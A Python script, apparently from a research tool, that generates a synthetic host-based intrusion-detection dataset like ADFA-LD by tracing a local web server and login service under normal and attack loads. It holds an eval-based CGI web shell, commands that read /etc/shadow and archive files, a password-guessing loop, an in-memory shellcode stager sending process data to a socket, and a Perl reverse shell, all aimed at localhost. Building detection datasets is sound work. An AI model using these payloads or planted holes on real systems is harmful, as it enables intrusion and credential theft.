#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""The third recording of record.py: one model for a whole host. Traces of processes of
many programs and of servers' children (a web server with CGI, a login service in perl)
lie in one folder without names of programs, normal days bring programs that training
has not seen, and attacks are what servers and users do under them: guessed passwords,
a web shell, stagers that run code from memory, a new user, looting. That is how ADFA-LD
is made up."""
import os
import random
import socket
import subprocess
import tempfile
import time

import record

LOGIN = r'''
use strict; use IO::Socket::INET; use Digest::SHA qw(sha256_hex); $SIG{CHLD} = "IGNORE";
my ($port, $root) = @ARGV;
my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => $port, Listen => 50, ReuseAddr => 1) or die;
while (my $c = $s->accept) {
  if (fork) { close $c; next }
  close $s; $c->autoflush(1); my ($user, $in, $failed) = ("", 0, 0);
  print $c "220 ready\r\n";
  while (my $l = <$c>) {
    my ($w, $a) = split " ", $l;
    if ($w eq "USER") { $user = $a; print $c "331\r\n" }
    elsif ($w eq "PASS") {
      open my $f, "<", "$root/passwd" or die; my $ok = 0;
      while (<$f>) { chomp; my ($u, $h) = split /:/; $ok = 1 if $u eq $user && $h eq sha256_hex($a) } close $f;
      open my $log, ">>", "$root/log"; print $log time, " $user $ok\n"; close $log;
      if ($ok) { $in = 1; print $c "230\r\n" } else { select undef, undef, undef, 0.01; print $c "530\r\n"; last if ++$failed > 3 }
    }
    elsif ($w eq "LIST" && $in) { opendir my $d, "$root/d0"; print $c join(" ", readdir $d), "\r\n"; closedir $d }
    elsif ($w eq "RETR" && $in) { open my $f, "<", "$root/d0/$a" or do { print $c "550\r\n"; next }; local $/; print $c scalar <$f>, "\r\n" }
    elsif ($w eq "STOR" && $in) { open my $f, ">", "$root/d0/$a"; print $f "x" x 3000; close $f; print $c "226\r\n" }
    elsif ($w eq "RUN" && $in) { my $o = `$root/bin/report $a`; print $c length $o, "\r\n" }
    elsif ($w eq "QUIT") { print $c "221\r\n"; last }
    else { print $c "500\r\n" }
  }
  exit 0;
}
'''
CGI = {
    "page": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nsed s/alpha/$QUERY_STRING/ ../d0/*\n",
    "count": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nn=$(cat ../n 2>/dev/null || echo 0)\necho $((n + 1)) >../n\ncat ../n\n",
    "search": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\ngrep -rn \"$QUERY_STRING\" ../d1 | head -n 20\n",
    "post": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nhead -c 500 >../up/$$\ndate\n",
    "x": "#!/bin/sh\necho 'Content-Type: text/plain'\necho\neval \"$(echo \"$QUERY_STRING\" | tr + ' ')\"\n",
}


def free_port():
    with socket.create_server(("127.0.0.1", 0)) as s:
        return s.getsockname()[1]


class Traced:
    """A server under strace, one file a process."""

    def __init__(self, tmp, argv, cwd, port):
        self.p = subprocess.Popen(["strace", "-ff", "-qq", "-s0", "-o", os.path.join(tmp, "s"), *argv], cwd=cwd,
                                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL, start_new_session=True,
                                  env={"PATH": record.SYSTEM, "HOME": "/tmp"})
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), 1).close()
                return
            except OSError:
                time.sleep(0.1)

    def end(self):
        time.sleep(0.5)
        os.killpg(self.p.pid, 15)
        try:
            self.p.wait(10)
        except subprocess.TimeoutExpired:
            os.killpg(self.p.pid, 9)
            self.p.wait()


def talk(port, lines):
    """Says lines to the login service, and awaits an answer to each."""
    try:
        with socket.create_connection(("127.0.0.1", port), 20) as s:
            s.recv(100)
            for line in lines:
                s.sendall(line.encode() + b"\r\n")
                if not s.recv(1 << 16):
                    break
    except OSError:
        pass


def site(r, w):
    root = record.tree(r, os.path.join(w, "t"))
    for d in ("cgi-bin", "up", "bin", "d0", "d1"):
        os.makedirs(os.path.join(root, d), exist_ok=True)
    for name, text in CGI.items():
        with open(os.path.join(root, "cgi-bin", name), "w") as f:
            f.write(text)
        os.chmod(os.path.join(root, "cgi-bin", name), 0o755)
    with open(os.path.join(root, "bin", "report"), "w") as f:
        f.write("#!/bin/sh\ncd $(dirname $0)/..\nls -l d$1 | wc -l\nsort d$1/* | uniq -c | tail -n 3\n")
    os.chmod(os.path.join(root, "bin", "report"), 0o755)
    import hashlib
    with open(os.path.join(root, "passwd"), "w") as f:
        for u in range(8):
            f.write("u%d:%s\n" % (u, hashlib.sha256(b"secret%d" % u).hexdigest()))
    return root


def web_normal(r, port):
    record.ask(port, r.choice(["/p.c", "/", "/d0/f%d.txt" % r.randrange(25), "/none", "/cgi-bin/page?x%d" % r.randrange(9),
                               "/cgi-bin/count", "/cgi-bin/search?kernel", "/cgi-bin/post"]))


def login_normal(r, port):
    u = r.randrange(8)
    lines = ["USER u%d" % u] + ["PASS oops"] * (r.random() < 0.15) + ["PASS secret%d" % u]
    lines += [r.choice(["LIST", "RETR f%d.txt" % r.randrange(25), "STOR n%d" % r.randrange(9), "RUN %d" % r.randrange(2)])
              for _ in range(r.randrange(1, 12))]
    talk(port, lines + ["QUIT"] * (r.random() < 0.8))


SHELL = ["id", "uname+-a;cat+/etc/passwd", "ls+-la+/root;ps", "find+/etc+-name+shadow", "cat+/etc/shadow;env",
         "cp+/bin/sleep+/tmp/.y;chmod+755+/tmp/.y;/tmp/.y+0.1;rm+/tmp/.y", "echo+x>>../d0/f1.txt;tar+cz+../d0+|base64+|tail+-1",
         "cat+/proc/net/tcp;cat+/proc/mounts"]
# Takes code from a socket into memory that may be run, and runs it, as stagers do.
STAGE = ('import ctypes,mmap,socket\ns=socket.create_connection(("127.0.0.1",%d))\n'
         "m=mmap.mmap(-1,4096,prot=7);m.write(b\"\\xb8\\x27\\0\\0\\0\\x0f\\x05\\xc3\")\n"
         "f=ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))\n"
         "for i in range(%d): f();s.sendall(b\"x\"*100)\n"
         'import os\nfor p in os.listdir("/proc")[:%d]:\n try: s.sendall(open("/proc/"+p+"/cmdline","rb").read())\n except OSError: pass')
PERL = ("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"127.0.0.1:%d\");open STDIN,\"<&\",$s;open STDOUT,\">&\",$s;"
        "exec \"/bin/sh\"'")


def part(out, seed, name, number, attack):
    r = random.Random(seed)
    where = os.path.join(out, "mixed", name)
    os.makedirs(where, exist_ok=True)
    for i in range(number):
        with tempfile.TemporaryDirectory() as w, tempfile.TemporaryDirectory() as tmp:
            root = site(r, w)
            kind = ["brute", "web-shell", "command"][i % 3] if attack else "normal"
            if kind in ("normal", "web-shell"):
                port = free_port()
                s = Traced(tmp, ["busybox", "httpd", "-f", "-p", "127.0.0.1:%d" % port, "-h", root], root, port)
                for _ in range(r.randrange(8, 20)):
                    web_normal(r, port) if kind == "normal" else record.ask(port, "/cgi-bin/x?" + r.choice(SHELL))
                s.end()
                record.keep(tmp, where, "%s-%03d-w" % (kind, i), 40)
            if kind in ("normal", "brute"):
                port = free_port()
                s = Traced(tmp, ["perl", "-e", LOGIN, str(port), root], root, port)
                for _ in range(r.randrange(6, 15)):
                    if kind == "normal":
                        login_normal(r, port)
                    else:
                        talk(port, [x for k in range(5) for x in ("USER u%d" % r.randrange(8), "PASS guess%d" % k)])
                s.end()
                record.keep(tmp, where, "%s-%03d-l" % (kind, i), 40)
            for j in range(0 if kind in ("brute", "web-shell") else 12 if kind == "normal" else 4):
                what = kind
                if kind == "command":
                    n = r.randrange(10, 60)
                    what, command = r.choice([record.attack(r, root), ("stage", record.PY % (STAGE % (record.SINK.port, n, n))),
                                              ("perl-shell", PERL % record.SHELL.port)])
                elif name == "test" and r.random() < 0.12:
                    command = record.only_in_test(r, root)
                else:
                    command = record.normal(r, root)
                record.strace(os.path.join(tmp, "s"), command)
                record.keep(tmp, where, "%s-%03d-%02d" % (what, i, j), 40)


def mixed(out, scale, first):
    part(out, first + 21, "train", int(9 * scale), False)
    part(out, first + 22, "test", int(16 * scale), False)
    part(out, first + 23, "attack", int(18 * scale), True)
